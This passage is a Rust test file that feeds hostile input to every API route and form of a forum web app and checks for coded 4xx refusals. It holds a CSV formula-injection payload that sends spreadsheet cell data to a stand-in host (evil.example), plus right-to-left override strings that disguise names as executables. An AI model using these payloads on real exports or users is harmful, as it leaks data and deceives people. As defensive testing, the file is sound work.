//! Hostile input, on both engines: every route of the JSON API and every
//! form of the pages receives malformed bodies (bad JSON, wrong types,
//! U+0000, invalid UTF-8, huge numbers, oversize), bad path parameters and
//! bad query strings, and must answer a 4xx with a stable code (the JSON
//! `code` on the API, an HTML error page on pages) — never a 5xx, never
//! plain text — and the process must go on serving. Then each class of
//! issue 10 item 6 is checked by name: path and query errors, page
//! numbers, the inbox's `Content-Type`, Unicode format characters in names,
//! formula cells in CSV exports, and remote user names that read as
//! another handle.
//!
//! The route tables below are the list of what is swept: a route added to
//! the API's router (`preau::api::route_table()`) or a form added to `src/web/mod.rs` without a line here
//! fails [`the_route_tables_cover_the_router`].

use super::support::client::{Answer, Client, PASSWORD};
use super::support::{fake_server::fake_server, *};
use serde_json::{json, Value};
use std::collections::BTreeSet;

/// How an API route reads its body.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Body {
    /// `ApiJson`: every malformed body must be refused.
    Json,
    /// No body is read: a malformed one is ignored, never a 5xx.
    Ignored,
}

/// Every route of the JSON API, as `preau::api::route_table()` lists them.
const API_ROUTES: &[(&str, &str, Body)] = &[
    ("GET", "/openapi.json", Body::Ignored),
    ("GET", "/instance", Body::Ignored),
    ("POST", "/accounts", Body::Json),
    ("POST", "/accounts/verify", Body::Json),
    ("POST", "/accounts/resend-verification", Body::Json),
    ("POST", "/password/forgot", Body::Json),
    ("POST", "/password/reset", Body::Json),
    ("POST", "/sessions", Body::Json),
    ("DELETE", "/sessions/current", Body::Ignored),
    ("GET", "/me", Body::Ignored),
    ("PUT", "/me/profile", Body::Json),
    ("GET", "/profiles/{name}", Body::Ignored),
    ("GET", "/lookup", Body::Ignored),
    ("GET", "/directory", Body::Ignored),
    ("GET", "/search", Body::Ignored),
    ("GET", "/forums", Body::Ignored),
    ("POST", "/forums", Body::Json),
    ("POST", "/forums/follow", Body::Json),
    ("GET", "/forums/{name}", Body::Ignored),
    ("DELETE", "/forums/{name}/follow", Body::Ignored),
    ("PUT", "/forums/{name}/mail-subscription", Body::Ignored),
    ("DELETE", "/forums/{name}/mail-subscription", Body::Ignored),
    ("POST", "/forums/{name}/threads", Body::Json),
    ("GET", "/threads/{id}", Body::Ignored),
    ("POST", "/threads/{id}/replies", Body::Json),
    ("POST", "/threads/{id}/{action}", Body::Ignored),
    ("GET", "/forums/{name}/reports", Body::Ignored),
    ("GET", "/forums/{name}/bans", Body::Ignored),
    ("POST", "/forums/{name}/bans", Body::Json),
    ("DELETE", "/forums/{name}/bans/{who}", Body::Ignored),
    ("PUT", "/posts/{id}", Body::Json),
    ("DELETE", "/posts/{id}", Body::Ignored),
    ("POST", "/posts/{id}/like", Body::Ignored),
    ("DELETE", "/posts/{id}/like", Body::Ignored),
    ("POST", "/posts/{id}/report", Body::Json),
    ("POST", "/posts/{id}/remove", Body::Json),
    ("GET", "/projects", Body::Ignored),
    ("POST", "/projects", Body::Json),
    ("GET", "/projects/lookup", Body::Ignored),
    ("GET", "/projects/{name}", Body::Ignored),
    ("POST", "/projects/{name}/invite", Body::Json),
    ("POST", "/projects/{name}/answer", Body::Json),
    ("POST", "/projects/{name}/join", Body::Ignored),
    ("POST", "/projects/{name}/leave", Body::Ignored),
    ("POST", "/projects/{name}/members/{id}", Body::Json),
    ("PUT", "/projects/{name}/mail-subscription", Body::Ignored),
    (
        "DELETE",
        "/projects/{name}/mail-subscription",
        Body::Ignored,
    ),
    ("GET", "/projects/{name}/search", Body::Ignored),
    ("GET", "/projects/{name}/threads", Body::Ignored),
    ("POST", "/projects/{name}/threads", Body::Json),
    ("GET", "/projects/{name}/threads/{id}", Body::Ignored),
    ("POST", "/projects/{name}/threads/{id}/replies", Body::Json),
    ("GET", "/projects/{name}/documents", Body::Ignored),
    ("GET", "/projects/{name}/events", Body::Ignored),
    ("POST", "/projects/{name}/events", Body::Json),
    ("PUT", "/projects/{name}/posts/{id}", Body::Json),
    ("DELETE", "/projects/{name}/posts/{id}", Body::Ignored),
    ("PUT", "/projects/{name}/events/{id}", Body::Json),
    ("DELETE", "/projects/{name}/events/{id}", Body::Ignored),
    ("PUT", "/projects/{name}/documents/{id}", Body::Json),
    ("DELETE", "/projects/{name}/documents/{id}", Body::Ignored),
    ("GET", "/me/requests", Body::Ignored),
    ("POST", "/contacts", Body::Json),
    ("POST", "/contacts/{id}/answer", Body::Json),
    ("GET", "/conversations", Body::Ignored),
    ("POST", "/conversations", Body::Json),
    ("GET", "/conversations/requests", Body::Ignored),
    ("POST", "/conversations/{id}/accept-request", Body::Ignored),
    ("POST", "/conversations/{id}/ignore", Body::Ignored),
    ("GET", "/conversations/{id}", Body::Ignored),
    ("GET", "/conversations/{id}/messages", Body::Ignored),
    ("POST", "/conversations/{id}/messages", Body::Json),
    ("PUT", "/conversations/{id}/messages/{line}", Body::Json),
    (
        "DELETE",
        "/conversations/{id}/messages/{line}",
        Body::Ignored,
    ),
    ("POST", "/conversations/{id}/invite", Body::Json),
    ("POST", "/conversations/{id}/remove", Body::Json),
    ("POST", "/conversations/{id}/leave", Body::Ignored),
    ("POST", "/conversations/{id}/accept", Body::Ignored),
    ("POST", "/conversations/{id}/decline", Body::Ignored),
    ("POST", "/conversations/{id}/read", Body::Json),
    ("GET", "/conversations/{id}/export", Body::Ignored),
    ("GET", "/contacts", Body::Ignored),
    ("DELETE", "/contacts/{handle}", Body::Ignored),
    ("PUT", "/contacts/{handle}/category", Body::Json),
    ("POST", "/contact-categories", Body::Json),
    ("PUT", "/contact-categories/{id}", Body::Json),
    ("DELETE", "/contact-categories/{id}", Body::Ignored),
    ("GET", "/blocks", Body::Ignored),
    ("POST", "/blocks/{handle}", Body::Ignored),
    ("DELETE", "/blocks/{handle}", Body::Ignored),
    ("PUT", "/me/presence", Body::Json),
    ("GET", "/notifications", Body::Ignored),
    ("POST", "/notifications/read", Body::Json),
    ("GET", "/me/notification-settings", Body::Ignored),
    ("PUT", "/me/notification-settings", Body::Json),
    ("GET", "/me/mail-subscriptions", Body::Ignored),
    // Swept by `the_stream_refuses_hostile_threads_with_a_code` (a stream
    // that opens never ends).
    ("GET", "/stream", Body::Ignored),
    ("GET", "/admin/accounts", Body::Ignored),
    ("POST", "/admin/accounts/{name}/approve", Body::Ignored),
    ("POST", "/admin/accounts/{name}/refuse", Body::Json),
    ("POST", "/admin/accounts/{name}/suspend", Body::Ignored),
];

/// How a page route reads its form.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Form {
    /// `CsrfForm`, URL-encoded.
    Encoded,
    /// `CsrfUpload`, multipart.
    Multipart,
    /// No form read: a signed link (one-click unsubscribe), whose
    /// signature is the credential.
    Signed,
}

/// Every form (POST route) of the pages, as written in `src/web/mod.rs`.
const FORM_ROUTES: &[(&str, Form)] = &[
    ("/signup", Form::Encoded),
    ("/verify/resend", Form::Encoded),
    ("/login", Form::Encoded),
    ("/logout", Form::Encoded),
    ("/password/forgot", Form::Encoded),
    ("/password/reset", Form::Encoded),
    ("/settings/profile", Form::Encoded),
    ("/settings/avatar", Form::Multipart),
    ("/settings/avatar/remove", Form::Encoded),
    ("/admin/instances/{host}/recheck", Form::Encoded),
    ("/admin/instances/{host}/manual", Form::Encoded),
    ("/admin/users/{name}/approve", Form::Encoded),
    ("/admin/users/{name}/refuse", Form::Encoded),
    ("/admin/users/{name}/suspend", Form::Encoded),
    ("/forums", Form::Encoded),
    ("/forums/follow", Form::Encoded),
    ("/forums/{name}/threads", Form::Encoded),
    ("/forums/{name}/unfollow", Form::Encoded),
    ("/forums/{name}/mail-subscription", Form::Encoded),
    ("/projects/{name}/mail-subscription", Form::Encoded),
    ("/settings/mail-subscriptions/stop", Form::Encoded),
    ("/threads/{id}/replies", Form::Encoded),
    ("/threads/{id}/moderate", Form::Encoded),
    ("/post/{id}/edit", Form::Encoded),
    ("/post/{id}/delete", Form::Encoded),
    ("/post/{id}/like", Form::Encoded),
    ("/post/{id}/report", Form::Encoded),
    ("/post/{id}/remove", Form::Encoded),
    ("/moderation/reports/{id}/resolve", Form::Encoded),
    ("/moderation/reports/{id}/dismiss", Form::Encoded),
    ("/forums/{name}/bans", Form::Encoded),
    ("/forums/{name}/bans/lift", Form::Encoded),
    ("/projects", Form::Encoded),
    ("/projects/lookup", Form::Encoded),
    ("/projects/{name}/edit", Form::Encoded),
    ("/projects/{name}/invite", Form::Encoded),
    ("/projects/{name}/join", Form::Encoded),
    ("/projects/{name}/leave", Form::Encoded),
    ("/projects/{name}/answer", Form::Encoded),
    ("/projects/{name}/members/{member}", Form::Encoded),
    ("/contacts", Form::Encoded),
    ("/directory/lookup", Form::Encoded),
    ("/@{name}/invite", Form::Encoded),
    ("/contacts/{id}/answer", Form::Encoded),
    ("/contacts/categories", Form::Encoded),
    ("/contacts/categories/{id}/rename", Form::Encoded),
    ("/contacts/categories/{id}/delete", Form::Encoded),
    ("/contacts/{id}/move", Form::Encoded),
    ("/contacts/{id}/remove", Form::Encoded),
    ("/contacts/{id}/block", Form::Encoded),
    ("/contacts/{id}/unblock", Form::Encoded),
    ("/settings/presence", Form::Encoded),
    ("/projects/{name}/threads", Form::Encoded),
    ("/projects/{name}/threads/{id}/replies", Form::Encoded),
    ("/projects/{name}/documents", Form::Multipart),
    ("/projects/{name}/events", Form::Encoded),
    ("/projects/{name}/posts/{id}/edit", Form::Encoded),
    ("/projects/{name}/posts/{id}/delete", Form::Encoded),
    ("/projects/{name}/events/{id}/edit", Form::Encoded),
    ("/projects/{name}/events/{id}/delete", Form::Encoded),
    ("/projects/{name}/documents/{version}/edit", Form::Encoded),
    ("/projects/{name}/documents/{version}/delete", Form::Encoded),
    ("/conversations", Form::Encoded),
    ("/conversations/{id}/messages", Form::Encoded),
    ("/conversations/{id}/messages/{line}/edit", Form::Encoded),
    ("/conversations/{id}/messages/{line}/delete", Form::Encoded),
    ("/conversations/{id}/invite", Form::Encoded),
    ("/conversations/{id}/answer", Form::Encoded),
    ("/conversations/{id}/request", Form::Encoded),
    ("/conversations/{id}/leave", Form::Encoded),
    ("/conversations/{id}/remove/{person}", Form::Encoded),
    ("/notifications/read", Form::Encoded),
    ("/settings/notifications", Form::Encoded),
    ("/unsubscribe/{account}/{kind}/{signature}", Form::Signed),
];

/// Path parameters that must be whole numbers.
const NUMERIC_PARAMS: [&str; 6] = ["id", "member", "version", "account", "line", "person"];

/// Field names the routes read, each given a hostile value at once.
const FIELDS: [&str; 43] = [
    "line",
    "participants",
    "min_level",
    "person",
    "ids",
    "status",
    "category",
    "category_id",
    "digest",
    "kind-reply",
    "all",
    "name",
    "title",
    "body",
    "description",
    "login",
    "password",
    "email",
    "username",
    "display_name",
    "handle",
    "token",
    "reason",
    "action",
    "accept",
    "role",
    "forum",
    "text",
    "bio",
    "subjects",
    "starts",
    "ends",
    "location",
    "level",
    "visibility",
    "join_mode",
    "next",
    "note",
    "remove",
    "confirmed",
    "back",
    "school",
    "motivation",
];

/// `(method, path)` of every `.route(…)` in a router source file.
fn routes_in_source(source: &str) -> BTreeSet<(String, String)> {
    let mut routes = BTreeSet::new();
    for piece in source.split(".route(").skip(1) {
        let piece = piece.split(".route(").next().unwrap_or_default();
        let Some(path) = piece.split('"').nth(1) else {
            continue;
        };
        for method in ["get", "post", "put", "delete"] {
            let call = format!("{method}(");
            let found = piece.match_indices(&call).any(|(at, _)| {
                at == 0
                    || !piece[..at]
                        .chars()
                        .last()
                        .is_some_and(|c| c.is_alphanumeric() || c == '_')
            });
            if found {
                routes.insert((method.to_uppercase(), path.to_string()));
            }
        }
    }
    routes
}

/// The tables and the routers list the same routes.
#[test]
fn the_route_tables_cover_the_router() {
    let api: BTreeSet<(String, String)> = preau::api::route_table()
        .into_iter()
        .map(|(method, path)| (method.to_string(), path.to_string()))
        .collect();
    let table: BTreeSet<(String, String)> = API_ROUTES
        .iter()
        .map(|(method, path, _)| (method.to_string(), path.to_string()))
        .collect();
    assert_eq!(
        api.difference(&table).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "API routes missing from API_ROUTES in hostile.rs"
    );
    assert_eq!(
        table.difference(&api).collect::<Vec<_>>(),
        Vec::<&(String, String)>::new(),
        "API_ROUTES lists routes the API does not have"
    );
    let forms: BTreeSet<String> = routes_in_source(include_str!("../../../src/web/mod.rs"))
        .into_iter()
        .filter(|(method, _)| method == "POST")
        .map(|(_, path)| path)
        .collect();
    let table: BTreeSet<String> = FORM_ROUTES
        .iter()
        .map(|(path, _)| path.to_string())
        .collect();
    assert_eq!(forms, table, "FORM_ROUTES differs from the page routes");
}

/// What the sweep's path parameters stand for.
struct Fixture {
    thread_id: i64,
}

/// A route's path with real values in its parameters, one of them
/// (`bad`) replaced by a hostile value.
fn concrete(template: &str, fixture: &Fixture, bad: Option<(&str, &str)>) -> String {
    let mut out = String::new();
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        let end = rest[start..].find('}').unwrap() + start;
        let param = &rest[start + 1..end];
        out.push_str(&rest[..start]);
        let value = match bad {
            Some((name, value)) if name == param => value.to_string(),
            _ => match param {
                "id" if template.starts_with("/contact") => "1".to_string(),
                "handle" => "bea".to_string(),
                "id" if template.contains("/members/") => "999".to_string(),
                "id" => fixture.thread_id.to_string(),
                "member" | "version" | "line" | "person" => "999".to_string(),
                "action" => "pin".to_string(),
                "host" => "peer.example".to_string(),
                "account" => "1".to_string(),
                "kind" => "reply".to_string(),
                "signature" => "00".to_string(),
                "name" if template.starts_with("/forums") => "maths".to_string(),
                "name" if template.starts_with("/projects") => "eco".to_string(),
                "name" | "who" => "bea".to_string(),
                other => panic!("no value for {{{other}}} in {template}"),
            },
        };
        out.push_str(&value);
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    out
}

/// The parameters of a route's path.
fn params_of(template: &str) -> Vec<&str> {
    template
        .split('{')
        .skip(1)
        .filter_map(|piece| piece.split('}').next())
        .collect()
}

/// A stable snake_case code.
fn is_code(code: &str) -> bool {
    !code.is_empty() && code.chars().all(|c| c.is_ascii_lowercase() || c == '_')
}

/// An API refusal: 4xx, JSON, a stable code (`expected` when given).
#[track_caller]
fn api_refused(what: &str, answer: &Answer, expected: Option<&str>) {
    assert!(
        (400..500).contains(&answer.status),
        "{what}: {} {}",
        answer.status,
        answer.text
    );
    assert!(
        answer.content_type.starts_with("application/json"),
        "{what}: {} {}",
        answer.content_type,
        answer.text
    );
    let code = answer.code();
    assert!(is_code(&code), "{what}: no code in {}", answer.text);
    if let Some(expected) = expected {
        assert_eq!(code, expected, "{what}: {}", answer.text);
    }
}

/// An API answer to input it may ignore: never a 5xx, and a refusal has a
/// code.
#[track_caller]
fn api_survived(what: &str, answer: &Answer) {
    assert!(
        answer.status < 500,
        "{what}: {} {}",
        answer.status,
        answer.text
    );
    if answer.status >= 400 && answer.status != 405 {
        api_refused(what, answer, None);
    }
}

/// A page refusal: 4xx and the HTML error page, never plain text.
#[track_caller]
fn page_refused(what: &str, answer: &Answer, status: Option<u16>) {
    assert!(
        (400..500).contains(&answer.status),
        "{what}: {} {}",
        answer.status,
        answer.text
    );
    if let Some(status) = status {
        assert_eq!(answer.status, status, "{what}: {}", answer.text);
    }
    assert!(
        answer.content_type.starts_with("text/html"),
        "{what}: {} {}",
        answer.content_type,
        answer.text
    );
}

/// A JSON object whose every known field holds `value`.
fn every_field(value: Value) -> Value {
    Value::Object(
        FIELDS
            .iter()
            .map(|field| (field.to_string(), value.clone()))
            .collect(),
    )
}

/// The malformed bodies sent to every JSON route: a name, the bytes, the
/// `Content-Type`, and the code expected.
fn malformed_json_bodies() -> Vec<(&'static str, Vec<u8>, &'static str, &'static str)> {
    let json = "application/json";
    let mut wrong_types = every_field(json!([1, {"a": true}]));
    wrong_types["id"] = json!("x");
    vec![
        (
            "truncated JSON",
            b"{\"title\": ".to_vec(),
            json,
            "invalid_json",
        ),
        ("not JSON", b"title=x".to_vec(), json, "invalid_json"),
        (
            "wrong types",
            wrong_types.to_string().into_bytes(),
            json,
            "invalid_json",
        ),
        (
            "U+0000 in every field",
            every_field(json!("x\u{0}y")).to_string().into_bytes(),
            json,
            "invalid_text",
        ),
        (
            "U+0000 in a nested string",
            json!({"subjects": ["SVT", "a\u{0}"], "x\u{0}": 1})
                .to_string()
                .into_bytes(),
            json,
            "invalid_text",
        ),
        (
            "invalid UTF-8",
            b"{\"title\": \"\xff\xfe\", \"name\": \"\xc3\"}".to_vec(),
            json,
            "invalid_json",
        ),
        (
            "number out of range",
            b"{\"id\": 1e999, \"title\": 1}".to_vec(),
            json,
            "invalid_json",
        ),
        (
            "huge integers",
            every_field(json!(123456789012345678901234567890.0_f64))
                .to_string()
                .into_bytes(),
            json,
            "invalid_json",
        ),
        (
            "oversize",
            json!({"title": "x".repeat(1_200_000)})
                .to_string()
                .into_bytes(),
            json,
            "payload_too_large",
        ),
        (
            "not declared as JSON",
            b"{\"title\": \"x\"}".to_vec(),
            "text/plain",
            "invalid_json",
        ),
    ]
}

/// Sends one API request as `client`.
async fn api_send(
    client: &Client<'_>,
    method: &str,
    path: &str,
    body: Option<(&[u8], &str)>,
) -> Answer {
    let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
    let path = format!("/api/v1{path}");
    client
        .send_retried(|| {
            let mut request = client.build(method.clone(), &path);
            if let Some((bytes, content_type)) = body {
                request = request
                    .header("content-type", content_type)
                    .body(bytes.to_vec());
            }
            request
        })
        .await
}

/// A fresh session of anne for routes that end the session they are sent
/// with (`None`: anne's own will do).
async fn session_for<'a>(instance: &'a TestInstance, template: &str) -> Option<Client<'a>> {
    if template == "/sessions/current" {
        Some(Client::log_in(instance, "anne").await)
    } else {
        None
    }
}

/// The instance still serves a page and the API.
async fn still_alive(instance: &TestInstance, what: &str) {
    let anonymous = Client::anonymous(instance);
    let answer = anonymous.get("/api/v1/instance").await;
    assert_eq!(answer.status, 200, "{what}");
    assert_eq!(anonymous.get("/").await.status, 200, "{what}");
}

/// A fresh instance.
async fn fresh(engine: Engine) -> TestInstance {
    let (settings, dir) = settings(engine, None);
    start(engine, settings, dir).await
}

/// On `instance`: an admin (anne, returned logged in), a teacher (bea), a
/// forum `maths` with a thread, and a project `eco`.
async fn prepared(instance: &TestInstance) -> (Client<'_>, Fixture) {
    let anne = Client::teacher(instance, "anne", true).await;
    Client::teacher(instance, "bea", false).await;
    anne.post(
        "/api/v1/forums",
        json!({"name": "maths", "title": "Maths", "description": "Entre profs"}),
    )
    .await
    .expect(201);
    let thread = anne
        .post_thread("maths", "Fractions", "Comment les introduire ?")
        .await;
    let thread_id = thread["id"].as_i64().unwrap();
    anne.post(
        "/api/v1/projects",
        json!({"name": "eco", "title": "Éco-délégués", "description": "Un projet"}),
    )
    .await
    .expect(201);
    (anne, Fixture { thread_id })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
    for engine in engines() {
        let instance = fresh(engine).await;
        let (anne, fixture) = prepared(&instance).await;

        for &(method, template, body) in API_ROUTES {
            if template == "/stream" {
                continue;
            }
            let session = session_for(&instance, template).await;
            let client = session.as_ref().unwrap_or(&anne);
            let path = concrete(template, &fixture, None);
            // Malformed bodies.
            for (name, bytes, content_type, code) in malformed_json_bodies() {
                let session = session_for(&instance, template).await;
                let client = session.as_ref().unwrap_or(client);
                let what = format!("{engine:?} {method} {template}: {name}");
                let answer = api_send(client, method, &path, Some((&bytes, content_type))).await;
                match body {
                    Body::Json => api_refused(&what, &answer, Some(code)),
                    Body::Ignored => api_survived(&what, &answer),
                }
            }
            // Bad path parameters.
            for param in params_of(template) {
                let numeric = NUMERIC_PARAMS.contains(&param);
                for (value, code) in [
                    ("%00", Some("invalid_text")),
                    ("x%00y", Some("invalid_text")),
                    ("abc", numeric.then_some("invalid_path")),
                    ("99999999999999999999999", numeric.then_some("invalid_path")),
                    ("-1", None),
                    ("%FF%FE", Some("invalid_path")),
                ] {
                    let path = concrete(template, &fixture, Some((param, value)));
                    let what = format!("{engine:?} {method} {path}");
                    let answer = api_send(client, method, &path, None).await;
                    match code {
                        Some(code) => api_refused(&what, &answer, Some(code)),
                        None => api_survived(&what, &answer),
                    }
                }
            }
            // Bad query strings: ignored by routes without a query, refused
            // with a code by the others.
            for query in [
                "page=%00&q=%00&handle=%00&status=%00&kind=%00",
                "page=abc",
                "page=-1",
                "page=0",
                "page=99999999999999999999999",
                "page=1&page=2",
                "q=%FF%FE",
                "%zz=%&&=",
            ] {
                let what = format!("{engine:?} {method} {path}?{query}");
                let answer = api_send(client, method, &format!("{path}?{query}"), None).await;
                api_survived(&what, &answer);
            }
        }
        still_alive(&instance, "after the API sweep").await;

        // The forms, logged in as the admin so that every handler is
        // reached. No case below is well formed, so none takes effect (the
        // log-out form included).
        let client = Client::anonymous(&instance).log_in_pages("anne").await;
        let token = csrf_token(&client.page("/settings/profile").await);
        for &(template, form) in FORM_ROUTES {
            let path = concrete(template, &fixture, None);
            let send = |path: String, content_type: String, bytes: Vec<u8>| {
                let client = &client;
                async move {
                    client
                        .send_retried(|| {
                            client
                                .build(reqwest::Method::POST, &path)
                                .header("content-type", content_type.clone())
                                .body(bytes.clone())
                        })
                        .await
                }
            };
            let encoded = "application/x-www-form-urlencoded".to_string();
            let with_token = |rest: &str| format!("csrf_token={token}&{rest}").into_bytes();
            let nul_fields: String = FIELDS
                .iter()
                .map(|field| format!("{field}=x%00y"))
                .collect::<Vec<_>>()
                .join("&");
            let mut cases: Vec<(&str, String, Vec<u8>, Option<u16>)> = vec![(
                "oversize",
                encoded.clone(),
                with_token(&format!("title={}", "x".repeat(2_100_000))),
                None,
            )];
            match form {
                Form::Signed => {
                    cases.push((
                        "forged signature",
                        encoded.clone(),
                        with_token(&nul_fields),
                        Some(403),
                    ));
                }
                Form::Encoded => {
                    cases.push((
                        "no CSRF token",
                        encoded.clone(),
                        b"title=x".to_vec(),
                        Some(403),
                    ));
                    cases.push((
                        "U+0000",
                        encoded.clone(),
                        with_token(&nul_fields),
                        Some(400),
                    ));
                    cases.push((
                        "invalid UTF-8",
                        encoded.clone(),
                        with_token("title=%FF%FE&body=%C3&name=%80"),
                        Some(400),
                    ));
                    cases.push((
                        "raw invalid UTF-8",
                        encoded.clone(),
                        [with_token("title="), b"\xff\xfe".to_vec()].concat(),
                        Some(400),
                    ));
                }
                Form::Multipart => {
                    let boundary = "hostileboundary";
                    let part = |name: &str, file: Option<&str>, value: &str| {
                        let disposition = match file {
                            Some(file) => format!("name=\"{name}\"; filename=\"{file}\""),
                            None => format!("name=\"{name}\""),
                        };
                        format!(
                            "--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n"
                        )
                    };
                    let multipart = format!("multipart/form-data; boundary={boundary}");
                    let nul_field = format!(
                        "{}{}{}--{boundary}--\r\n",
                        part("csrf_token", None, &token),
                        part("title", None, "x\u{0}y"),
                        part("file", Some("notes.txt"), "bonjour"),
                    );
                    let nul_file = format!(
                        "{}{}--{boundary}--\r\n",
                        part("csrf_token", None, &token),
                        part("file", Some("no\u{0}tes.txt"), "bonjour"),
                    );
                    let no_token = format!(
                        "{}{}--{boundary}--\r\n",
                        part("title", None, "x"),
                        part("file", Some("notes.txt"), "bonjour"),
                    );
                    cases.push((
                        "no CSRF token",
                        multipart.clone(),
                        no_token.into_bytes(),
                        Some(403),
                    ));
                    cases.push((
                        "U+0000 in a field",
                        multipart.clone(),
                        nul_field.into_bytes(),
                        Some(400),
                    ));
                    cases.push((
                        "U+0000 in a file name",
                        multipart.clone(),
                        nul_file.into_bytes(),
                        Some(400),
                    ));
                    cases.push((
                        "not multipart",
                        encoded.clone(),
                        with_token("title=x"),
                        Some(400),
                    ));
                    cases.push((
                        "broken multipart",
                        multipart.clone(),
                        format!("--{boundary}\r\nContent-Disp").into_bytes(),
                        Some(400),
                    ));
                }
            }
            for (name, content_type, bytes, status) in cases {
                let what = format!("{engine:?} POST {template}: {name}");
                let answer = send(path.clone(), content_type, bytes).await;
                page_refused(&what, &answer, status);
            }
            for param in params_of(template) {
                let numeric = NUMERIC_PARAMS.contains(&param);
                for (value, status) in [
                    ("%00", Some(400)),
                    ("abc", numeric.then_some(400)),
                    ("99999999999999999999999", numeric.then_some(400)),
                ] {
                    let path = concrete(template, &fixture, Some((param, value)));
                    let what = format!("{engine:?} POST {path}");
                    let answer = send(path, encoded.clone(), with_token("title=x")).await;
                    match status {
                        Some(status) => page_refused(&what, &answer, Some(status)),
                        None => assert!(answer.status < 500, "{what}: {}", answer.status),
                    }
                }
            }
        }
        // Still logged in: no malformed log-out took effect.
        let answer = client.get("/settings/profile").await;
        assert_eq!(answer.status, 200, "{engine:?}");
        still_alive(&instance, "after the form sweep").await;
        instance.stop().await;
    }
}

/// A server that is not Préau (see [`fake_server`]): `alice` and `rlo`
/// have a `preferredUsername` no server allows.
async fn fake_origin(public_key_pem: String) -> String {
    let (origin, _) = fake_server(public_key_pem, |_, name| {
        let preferred = match name {
            "alice" => "alice@academie.example",
            "rlo" => "eve\u{202E}",
            other => other,
        };
        json!({"preferredUsername": preferred, "name": "Name\u{202E}txt.exe"})
    })
    .await;
    origin
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_hostile_class_answers_its_own_code() {
    for engine in engines() {
        let instance = fresh(engine).await;
        let (anne, fixture) = prepared(&instance).await;
        let api = |path: &str| instance.url(&format!("/api/v1{path}"));
        let anonymous = Client::anonymous(&instance);
        let get = |url: String| {
            let anonymous = &anonymous;
            async move { anonymous.get(&url).await }
        };

        // Path and query errors on the API: JSON with a code.
        for path in [
            "/threads/abc",
            "/threads/99999999999999999999",
            "/threads/1.5",
        ] {
            api_refused(path, &get(api(path)).await, Some("invalid_path"));
        }
        for page in ["abc", "0", "-1", "99999999999999999999", "1.5"] {
            let path = format!("/forums/maths?page={page}");
            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
            let path = format!("/threads/{}?page={page}", fixture.thread_id);
            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
            let path = format!("/directory?page={page}");
            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
        }
        assert_eq!(get(api("/forums/maths?page=1")).await.status, 200);
        assert_eq!(get(api("/forums/maths?page=")).await.status, 200);
        let answer = get(api("/forums/maths?page=1&page=2")).await;
        api_refused("twice", &answer, Some("invalid_query"));

        // The same on pages: the HTML error page.
        for path in [
            "/threads/abc",
            "/threads/99999999999999999999",
            "/post/x/edit",
        ] {
            let answer = get(instance.url(path)).await;
            if path.starts_with("/post/") {
                assert_eq!(answer.status, 405, "{path}");
                continue;
            }
            page_refused(path, &answer, Some(400));
        }
        for page in ["0", "-1", "abc"] {
            let path = format!("/forums/maths?page={page}");
            page_refused(&path, &get(instance.url(&path)).await, Some(422));
            let path = format!("/threads/{}?page={page}", fixture.thread_id);
            page_refused(&path, &get(instance.url(&path)).await, Some(422));
        }
        assert_eq!(get(instance.url("/forums/maths?page=1")).await.status, 200);

        // U+0000 where no account is needed: log-in, profiles, forums,
        // WebFinger, the directory.
        let answer = anonymous
            .post(
                &api("/sessions"),
                json!({"login": "an\u{0}ne", "password": PASSWORD}),
            )
            .await;
        api_refused("log-in", &answer, Some("invalid_text"));
        for path in [
            "/profiles/an%00ne",
            "/forums/ma%00ths",
            "/directory?q=%00",
            "/directory?place=a%00",
            "/search?q=a%00",
            "/search?forum=ma%00ths",
        ] {
            api_refused(path, &get(api(path)).await, Some("invalid_text"));
        }
        let answer = get(instance.url(&format!(
            "/.well-known/webfinger?resource=acct:an%00ne@{}",
            instance.domain
        )))
        .await;
        api_refused("webfinger", &answer, Some("invalid_text"));
        page_refused(
            "page",
            &get(instance.url("/users/an%00ne")).await,
            Some(400),
        );
        page_refused(
            "directory page",
            &get(instance.url("/directory?q=a%00")).await,
            Some(400),
        );
        page_refused(
            "search page",
            &get(instance.url("/search?q=a%00")).await,
            Some(400),
        );

        // Unicode format characters leave names, local ones at least.
        let put = |path: &str, body: Value| {
            let url = api(path);
            let anne = &anne;
            async move { anne.call(reqwest::Method::PUT, &url, Some(body)).await }
        };
        let answer = put(
            "/me/profile",
            json!({"display_name": "\u{FEFF}Anne\u{202E}gpj.exe\u{200B}\u{2066}"}),
        )
        .await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        let me = anne.get_json(&api("/me")).await;
        assert_eq!(me["profile"]["display_name"], "Annegpj.exe", "{me}");
        let thread = anne
            .post(
                &api("/forums/maths/threads"),
                json!({"title": "rapport\u{202E}fdp.exe", "body": "x"}),
            )
            .await
            .expect(201);
        assert_eq!(thread["title"], "rapportfdp.exe", "{thread}");

        // A formula as a display name is defused in the members CSV.
        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Anne\")";
        let answer = put("/me/profile", json!({"display_name": formula})).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        let browser = Client::anonymous(&instance).log_in_pages("anne").await;
        let csv = browser.page("/projects/eco/members.csv").await;
        assert!(csv.contains("'=HYPERLINK("), "{csv}");
        assert!(
            !csv.lines()
                .any(|line| line.starts_with('=') || line.contains(",=") || line.contains(",\"=")),
            "{csv}"
        );
        let admin_csv = browser.get("/admin/users.csv").await;
        assert_eq!(admin_csv.status, 200);

        // The inbox takes ActivityPub documents only, checked before the
        // signature.
        let post_inbox = |content_type: Option<&'static str>, body: &'static str| {
            let anonymous = &anonymous;
            async move {
                let mut request = anonymous.build(reqwest::Method::POST, "/inbox").body(body);
                if let Some(content_type) = content_type {
                    request = request.header("content-type", content_type);
                }
                anonymous.send(request).await
            }
        };
        let activity = r#"{"type": "Create", "actor": "http://peer.example/users/x"}"#;
        for content_type in [
            Some("text/plain"),
            Some("application/x-www-form-urlencoded"),
            None,
        ] {
            let answer = post_inbox(content_type, activity).await;
